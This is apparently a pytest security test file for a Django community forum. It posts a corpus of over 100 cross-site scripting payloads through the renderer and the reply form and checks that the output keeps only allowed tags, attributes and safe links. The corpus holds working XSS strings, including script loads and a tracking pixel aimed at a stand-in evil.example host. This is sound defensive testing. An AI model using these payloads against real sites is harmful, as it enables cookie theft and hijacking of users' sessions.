"""Cross-site scripting: a corpus of attack strings, posted through the real reply form, must come out as
HTML with only the allowed tags and attributes and no unsafe address. tests/browser/test_forum_xss.py
renders the same corpus in Chromium and checks that nothing runs."""

import re
from html.parser import HTMLParser

import pytest

from community.forum import text
from community.models import ForumPost

from .forum_public_factories import (
    ForumCategoryFactory,
    ForumIndexPageFactory,
    forum_settings,
    topic_with_opening,
    trusted_member,
)

SCHEMES = ["javascript", "JaVaScRiPt", "data", "vbscript", " javascript", "java\tscript", "java\nscript"]
PAYLOADS = ["alert(1)", "alert(document.cookie)", "window.sbsPwned=1", "print()", "confirm(1)"]

HANDWRITTEN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>window.sbsPwned=1</script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Click</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">old IE</div>',
    '<p style="background-image: url(javascript:alert(1))">styled</p>',
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="  javascript:alert(1)">spaces first</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="https://example.org" onclick="alert(1)">innocent looking</a>',
    '<a href="https://example.org" target="_blank">new window</a>',
    "[click me](javascript:alert(1))",
    "[click me](JAVASCRIPT:alert(1))",
    "[click me](javascript&#58;alert(1))",
    "[click me](&#106;avascript:alert(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](vbscript:msgbox(1))",
    '[click me](https://example.org "title" onmouseover="alert(1)")',
    '[click me](https://example.org/"onmouseover="alert(1))',
    "[a](<javascript:alert(1)>)",
    "![picture](javascript:alert(1))",
    '![picture](https://example.org/x.png" onerror="alert(1))',
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://example.org/" onmouseover="alert(1)>',
    "**bold <img src=x onerror=alert(1)>**",
    "*emphasis*<script>alert(1)</script>*",
    "`<script>alert(1)</script>` in code",
    "```\n<script>alert(1)</script>\n```",
    "> quoted <script>alert(1)</script>",
    "- list item <img src=x onerror=alert(1)>\n- second item",
    "1. first <svg onload=alert(1)>\n2. second",
    "<!-- <script>alert(1)</script> -->comment",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE html><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>scrolling</marquee>",
    "<form action=javascript:alert(1)><button>send</button></form>",
    "<button formaction=javascript:alert(1)>press</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202egnp.exe innocent file",
    "Say \u202eolleh\u202c to \u2066everyone\u2069",
    "zero\u200bwidth\u200cjoin\u200dtricks\ufeff here",
    "\u00adsoft\u00adhyphen javascript:\u00adalert(1)",
    '<a href="java\u200bscript:alert(1)">zero width</a>',
    "[zero width](java\u200bscript:alert(1))",
    "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>",
    "＜script＞alert(1)＜/script＞",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="#" onclick="window.sbsPwned=1">harmless?</a>',
    '<div id="x" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    '<img src="https://evil.example/track.gif" width=1 height=1>',
    '<a href="mailto:someone@example.org?body=<script>alert(1)</script>">mail</a>',
    '<a href="//evil.example">protocol relative</a>',
    '<a href="https://example.org" rel="opener">opener</a>',
    "<strong onclick=alert(1)>strong words</strong>",
    '<em style="color:red">red words</em>',
    '<p><a href="https://example.org"><img src=x onerror=alert(1)></a></p>',
    "<unknown-element onload=alert(1)>custom</unknown-element>",
    "<x onclick=alert(1)>click x",
    '<a href="https://example.org"\nonclick=alert(1)>newline attr</a>',
    '<a/href="javascript:alert(1)">slash</a>',
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>unquoted</a>",
]

GENERATED = [
    f"[link {n}]({scheme}:{payload})" for n, (scheme, payload) in enumerate(zip(SCHEMES, PAYLOADS * 2, strict=False))
] + [
    f'<a href="{scheme}:{payload}">raw {n}</a>'
    for n, (scheme, payload) in enumerate(zip(SCHEMES, PAYLOADS * 2, strict=False))
]

ATTACKS = HANDWRITTEN + GENERATED
UNSAFE_URL = re.compile(r"^\s*(javascript|data|vbscript)\s*:", re.IGNORECASE)


def test_the_corpus_is_big_enough():
    assert len(ATTACKS) >= 100
    assert len(set(ATTACKS)) == len(ATTACKS)


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def check_safe(html):
    """Only the allowed tags and attributes, and no address a browser would run."""
    collector = TagCollector()
    collector.feed(html)
    collector.close()
    for tag, attrs in collector.found:
        assert tag in text.ALLOWED_TAGS, f"{tag} in {html!r}"
        allowed = text.ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attrs) <= allowed, f"{attrs} in {html!r}"
        href = attrs.get("href")
        if href is not None:
            plain = re.sub(r"[\x00-\x20\u200b-\u200f\u2060\ufeff]", "", href)
            assert not UNSAFE_URL.match(plain), f"unsafe href {href!r}"
            assert attrs.get("rel") == text.LINK_REL
    lowered = html.lower()
    for marker in ("<script", "<iframe", "<svg", "<img", "<style", "<meta", "<object", "<embed", " on"):
        if marker == " on":
            assert not re.search(r"<[^>]*\son\w+\s*=", lowered), html
        else:
            assert marker not in lowered, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_rendering_keeps_only_allowed_tags_and_attributes(attack):
    check_safe(text.render(attack))


@pytest.mark.django_db
def test_the_corpus_posted_through_the_reply_form_comes_out_safe(client, home_page, settings):
    settings.PUBLIC_FORM_RATE_LIMITS = {"forum-post": {"ip": (100000, 3600), "email": (100000, 3600)}}
    forum_settings(first_posts_held=0, hold_phone_numbers=False, hold_email_addresses=False)
    index = ForumIndexPageFactory(parent=home_page)
    category = ForumCategoryFactory(slug="chat")
    topic = topic_with_opening(category, title='<script>alert("title")</script> Safe title')
    client.force_login(trusted_member())
    reply_url = index.url + f"chat/{topic.pk}/reply/"
    for attack in ATTACKS:
        response = client.post(reply_url, {"body": f"Before {attack} After"})
        assert response.status_code == 302, attack
    posts = ForumPost.objects.filter(topic=topic, is_opening=False)
    assert posts.count() == len(ATTACKS)
    for post in posts:
        check_safe(post.body_html)
    page = client.get(index.url + f"chat/{topic.pk}/", {"page": 2}).content.decode()
    body = page[page.index("<main") : page.index("</main>")]
    assert "<script>alert" not in body and not re.search(r"<[^>]*\son\w+\s*=", body)
    assert "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt; Safe title" in page
